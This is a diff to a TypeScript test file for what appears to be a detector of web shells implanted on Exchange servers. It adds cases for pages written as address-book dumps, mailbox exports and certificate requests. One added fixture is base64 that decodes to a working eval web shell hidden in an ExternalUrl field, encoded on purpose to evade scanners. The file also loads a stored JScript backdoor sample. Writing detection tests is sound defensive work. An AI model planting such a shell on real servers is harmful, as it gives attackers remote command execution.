@@ -111,6 +111,11 @@ const location = (where: string, inner: string): string =>
 const nothing = '<%@ Page Language="C#" %>\r\n<html><body></body></html>\r\n';
 const at = `${front}/owa/auth/errorEE.aspx`;
 const shell = new TextDecoder().decode(bytesOf(backDoors.find(({ name }) => name === 'jscript-eval.aspx')!));
+/** As Exchange writes it, with a script that does what its visitor says; encoded, so that no scanner takes this file for one. */
+const dump = Buffer.from(
+  'UG9sbEludGVydmFsICAgICAgICAgICAgICA6IDQ4MA0KT2ZmbGluZUFkZHJlc3NCb29rcyAgIDogDQpSZXF1aXJlU1NMICAgICAgICAgICAgOiBUcnVlDQpJbnRlcm5hbFVybCAgICAgICAgICAgOiBodHRwczovL21haWwuZXhhbXBsZS9PQUINCkV4dGVybmFsVXJsICAgICAgICAgICA6IGh0dHA6Ly9mLzxzY3JpcHQgbGFuZ3VhZ2U9IkpTY3JpcHQiIHJ1bmF0PSJzZXJ2ZXIiPmZ1bmN0aW9uIFBhZ2VfTG9hZCgpe2V2YWwoUmVxdWVzdFsieDEiXSwidW5zYWZlIik7fTwvc2NyaXB0Pg0K',
+  'base64',
+).toString();
 const plain = healthyServer('2016');
 const config = (file: string, more: string): Tree => ({
   [file]: plain.tree[file]!.replace('<system.webServer>', `<system.webServer>${more}`),
@@ -227,7 +232,7 @@ const cases: readonly Case[] = [
       ],
     }),
     found: ['web-shell/config-authentication-open implanted possible'],
-    told: ['anonymousAuthentication'],
+    told: ['anonymousAuthentication', 'Default Web Site/PowerShell'],
   },
   {
     name: 'a machine key that somebody wrote down',
@@ -405,6 +410,30 @@ const cases: readonly Case[] = [
     },
     found: ['web-shell/page-compiled-code implanted probable'],
     told: ['ASP.auth_q7x_aspx', 'jscriptevaluate'],
+  },
+  {
+    name: 'the settings of the address book written out as a page, with script in its address',
+    more: { [`${front}/oab/q7x.aspx`]: dump },
+    found: ['web-shell/page-dump implanted confirmed'],
+    told: ['ExternalUrl'],
+  },
+  {
+    name: 'a mailbox exported as a page',
+    more: {},
+    libraries: {
+      [`${front}/owa/auth/q7x.aspx`]: new Uint8Array([0x21, 0x42, 0x44, 0x4e, 0, 1, 2, 3, ...new TextEncoder().encode('mail')]),
+    },
+    found: ['web-shell/page-export implanted confirmed'],
+    told: ['q7x.aspx'],
+  },
+  {
+    name: 'a request for a certificate saved as a page',
+    more: {
+      [`${front}/owa/auth/q7x.aspx`]:
+        '-----BEGIN NEW CERTIFICATE REQUEST-----\r\nMIIB\r\n-----END NEW CERTIFICATE REQUEST-----\r\n',
+    },
+    found: ['web-shell/page-export implanted confirmed'],
+    told: ['CERTIFICATE REQUEST'],
   },
   {
     name: 'script in the address of a virtual directory',
